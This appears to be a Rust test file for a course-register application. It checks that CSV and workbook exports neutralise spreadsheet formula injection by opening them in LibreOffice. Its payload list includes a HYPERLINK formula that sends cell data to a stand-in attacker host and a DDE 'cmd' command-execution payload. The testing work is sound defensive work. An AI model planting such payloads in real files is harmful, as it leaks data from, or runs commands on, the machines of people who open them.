//! What a spreadsheet makes of an export: LibreOffice opens it, once, with a formula in every text column.
#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};
use std::process::Command;

use course_register_core::bookings::{self, BookingState, PayerKind, PaymentKind, RecordPayment, SetPayer};
use course_register_core::courses::CourseForm;
use course_register_core::export::csv_text::unguard;
use course_register_core::export::{ExportFormat, ExportKind, ExportScope};
use course_register_core::participants::{self, AddParticipant, PersonForm};
use course_register_core::register::mark::Mark;
use course_register_core::register::{CellRef, RegisterOf, write_note};
use course_register_tests::{World, compassionate_leadership, place, read_by_python};

/// What somebody may type, or paste, into any field.
const PAYLOADS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"https://evil.example.org/?\"&A1,\"Click\")",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "''=1+1",
    "=1+1\",\"=2+2",
    "{=1+1}",
    "\"=1+1\"",
    "=1+1;=2+2",
];

/// Opens CSV files as the administrator's spreadsheet would, and gives back the flat OpenDocument texts.
fn opened(files: &[PathBuf], folder: &Path) -> Vec<String> {
    let profile = folder.join("profile");
    let out = folder.join("opened");
    let done = Command::new("soffice")
        .arg(format!("-env:UserInstallation=file://{}", profile.display()))
        // Comma, quotes, UTF-8, from the first line; no column is forced to be text, and formulas are evaluated.
        .args([
            "--headless",
            "--norestore",
            "--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,true",
        ])
        .args(["--convert-to", "fods", "--outdir"])
        .arg(&out)
        .args(files)
        .output()
        .expect("LibreOffice (Debian: libreoffice-calc)");
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    let texts = files.iter().map(|file| {
        let name = file.with_extension("fods");
        std::fs::read_to_string(out.join(name.file_name().unwrap())).expect("an opened file")
    });
    texts.collect()
}

/// Opens a workbook as a double click does.
fn opened_workbook(file: &Path, folder: &Path) -> String {
    let out = folder.join("opened");
    let done = Command::new("soffice")
        .arg(format!("-env:UserInstallation=file://{}", folder.join("profile").display()))
        .args(["--headless", "--norestore", "--convert-to", "fods", "--outdir"])
        .arg(&out)
        .arg(file)
        .output()
        .expect("LibreOffice (Debian: libreoffice-calc)");
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    std::fs::read_to_string(out.join(file.with_extension("fods").file_name().unwrap())).expect("an opened workbook")
}

/// The cells of the first sheet, and how many formulas there are, read by Python's own XML parser.
fn cells(fods: &str, folder: &Path) -> (Vec<Vec<String>>, usize) {
    const PROGRAM: &str = r"
import json, sys, xml.etree.ElementTree as E
t = '{urn:oasis:names:tc:opendocument:xmlns:table:1.0}'
x = '{urn:oasis:names:tc:opendocument:xmlns:text:1.0}'
def text(p):
    out = p.text or ''
    for c in p:
        out += ' ' * int(c.get(x + 'c', '1')) if c.tag == x + 's' else '\t' if c.tag == x + 'tab' else text(c)
        out += c.tail or ''
    return out
rows, formulas = [], 0
sheet = next(E.parse(sys.argv[1]).iter(t + 'table'))
for row in sheet.iter(t + 'table-row'):
    cells = []
    for cell in row.findall(t + 'table-cell'):
        formulas += (t + 'formula') in cell.attrib
        many = int(cell.get(t + 'number-columns-repeated', '1'))
        cells += ['\n'.join(text(p) for p in cell.findall(x + 'p'))] * min(many, 40)
    rows.append(cells)
json.dump([rows, formulas], sys.stdout)
";
    let file = folder.join("opened.xml");
    std::fs::write(&file, fods).unwrap();
    let said = Command::new("python3").args(["-c", PROGRAM]).arg(&file).output().expect("python3");
    assert!(said.status.success(), "{}", String::from_utf8_lossy(&said.stderr));
    serde_json::from_slice(&said.stdout).unwrap()
}

#[test]
fn formulas_in_every_text_column_stay_text_and_come_back_unchanged() {
    let mut world = World::at("2026-03-03T09:00:00Z");
    let course = CourseForm {
        programme_title: "=1+1".into(),
        title: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
        capacity: String::new(),
        ..compassionate_leadership()
    };
    let course = world.course(&course);
    let of = RegisterOf::Course(course.course_id);
    for (at, payload) in PAYLOADS.iter().enumerate() {
        let person = PersonForm {
            first_name: (*payload).into(),
            last_name: (*payload).into(),
            emails: vec![format!("={at}+1@example.org")],
            phone: (*payload).into(),
            organisation: (*payload).into(),
            job_title: (*payload).into(),
            ..PersonForm::default()
        };
        let booking = Some(place(course.course_id, BookingState::Booked, "2026-01-12"));
        let request = AddParticipant { person, booking, is_different: true };
        let moment = world.moment();
        let sheet = participants::add_participant(&world.file, &moment, &request).unwrap().view;
        let (who, booking_id) = (sheet.participant_id, sheet.booking.unwrap().booking_id);
        let payer = SetPayer {
            booking_id,
            payer: PayerKind::Employer,
            payer_name: (*payload).into(),
            purchase_order: (*payload).into(),
            invoice_number: (*payload).into(),
            due_on: String::new(),
        };
        let moment = world.moment();
        bookings::set_payer(&world.file, &moment, &payer).unwrap();
        let payment = RecordPayment {
            booking_id,
            kind: PaymentKind::Payment,
            amount: "80".into(),
            paid_on: "2026-01-20".into(),
            method: (*payload).into(),
            notes: (*payload).into(),
            more_than_due: false,
        };
        let moment = world.moment();
        bookings::record_payment(&world.file, &moment, &payment).unwrap();
        let moment = world.moment();
        participants::save_access_needs(&world.file, &moment, who, payload).unwrap();
        let session_id = course.sessions[0].session_id;
        world.mark(of, session_id, who, Some(Mark::Part { minutes: 95 })).unwrap();
        let moment = world.moment();
        let cell = CellRef { session_id, participant_id: who };
        write_note(&world.file, &moment, of, cell, &format!("{payload}\n{payload}")).unwrap();
    }
    let folder = world.folder().to_owned();
    let every = [
        "participant_id",
        "first_name",
        "last_name",
        "email",
        "phone",
        "organisation",
        "job_title",
        "course",
        "requirements_met",
        "fee_due_gbp",
        "access_needs",
    ];
    let scope = ExportScope::Course { course_id: course.course_id };
    let files = [
        world.export(ExportKind::Participants, scope, Some(&every)),
        world.export(ExportKind::Register, scope, None),
        world.export(ExportKind::RegisterGrid, scope, None),
        world.export(ExportKind::Payments, scope, None),
        world.export(ExportKind::FollowUps, ExportScope::Programme { programme_id: course.programme_id }, None),
    ];

    // The same text without a guard would run: the check below can fail.
    let unguarded = folder.join("unguarded.csv");
    std::fs::write(&unguarded, "\u{feff}a,b\r\n=1+1,@SUM(1+1)\r\n").unwrap();
    let mut all = files.to_vec();
    all.push(unguarded);
    let opened = opened(&all, &folder);
    let (_, formulas) = cells(opened.last().unwrap(), &folder);
    assert!(formulas > 0, "LibreOffice evaluates formulas in CSV files as it is asked here");

    for (file, fods) in files.iter().zip(&opened) {
        let (shown, formulas) = cells(fods, &folder);
        assert_eq!(formulas, 0, "{}: no cell may be a formula", file.display());
        let written = read_by_python(file);
        for (at, row) in written.iter().enumerate() {
            for (column, cell) in row.iter().enumerate() {
                let shown = shown[at].get(column).cloned().unwrap_or_default();
                // A spreadsheet shows dates, times and numbers in its own way; text must be as it was.
                if cell.starts_with(|c: char| c.is_ascii_digit()) {
                    continue;
                }
                assert_eq!(&shown, cell, "{} line {} column {}", file.display(), at + 1, written[0][column]);
            }
        }
    }
    // In a workbook nothing is guarded, and nothing runs: the texts are as they were typed.
    for kind in [ExportKind::Participants, ExportKind::Register, ExportKind::RegisterGrid, ExportKind::Payments] {
        let columns = (kind == ExportKind::Participants).then_some(&every[..]);
        let book = world.export_as(kind, scope, columns, ExportFormat::Xlsx);
        let (shown, formulas) = cells(&opened_workbook(&book, &folder), &folder);
        assert_eq!(formulas, 0, "{}: no cell may be a formula", book.display());
        let text = shown.concat();
        for payload in PAYLOADS {
            assert!(text.iter().any(|cell| cell.contains(payload)), "{}: {payload:?}", book.display());
        }
    }
    let names = read_by_python(&files[0]);
    let mut back: Vec<&str> = names[1..].iter().map(|row| unguard(&row[1])).collect();
    let mut typed = PAYLOADS.to_vec();
    back.sort_unstable();
    typed.sort_unstable();
    assert_eq!(back, typed, "and whoever reads the file gets what was typed");
}
